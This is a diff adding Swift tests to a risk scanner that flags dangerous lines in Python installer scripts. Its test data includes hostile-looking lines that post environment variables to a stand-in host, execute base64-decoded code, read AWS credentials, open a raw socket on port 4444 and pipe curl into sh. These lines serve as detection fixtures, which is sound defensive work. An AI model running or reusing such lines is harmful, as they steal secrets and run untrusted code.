@@ -361,4 +361,26 @@ struct ReviewTests {
     func quiet(line: String) {
         #expect(RiskScanner.scan(line + "\n", lines: [1]).isEmpty)
     }
+
+    @Test("A Python installer gets Python's rules, and none of the shell's", arguments: [
+        ("requests.post(\"https://collect.example.com\", data=payload)", "sends data out (HTTP POST)"),
+        ("urllib.request.urlopen(url, data=json.dumps(dict(os.environ)).encode())", "sends data out (HTTP POST)"),
+        ("report = dict(os.environ)", "reads the whole environment"),
+        ("exec(base64.b64decode(blob))", "decodes data and executes it"),
+        ("eval(code)", "evaluates a constructed string"),
+        ("s = socket.create_connection((host, 4444))", "opens a raw network connection"),
+        ("open(os.path.expanduser(\"~/.aws/credentials\")).read()", "reads credentials"),
+        ("urlopen(\"http://104.248.94.23/x\")", "talks to a host given as an IP address"),
+    ])
+    func python(line: String, reason: String) {
+        let risks = RiskScanner.scan("#!/usr/bin/env python3\n\(line)\n", lines: [2])
+        #expect(risks.map(\.reason).contains(reason), "\(risks)")
+        #expect(!risks.contains { $0.reason == "gains root with sudo" || $0.reason == "runs a new download without verifying it" })
+    }
+
+    @Test("Shell shapes in a Python installer's strings are not flagged")
+    func pythonQuiet() {
+        let body = "#!/usr/bin/env python3\nprint(\"then run: sudo make install\")\nHELP = \"curl -d @file https://example.com | sh\"\nos.environ.get(\"HOME\")\n"
+        #expect(RiskScanner.scanAll(body).isEmpty, "\(RiskScanner.scanAll(body))")
+    }
 }
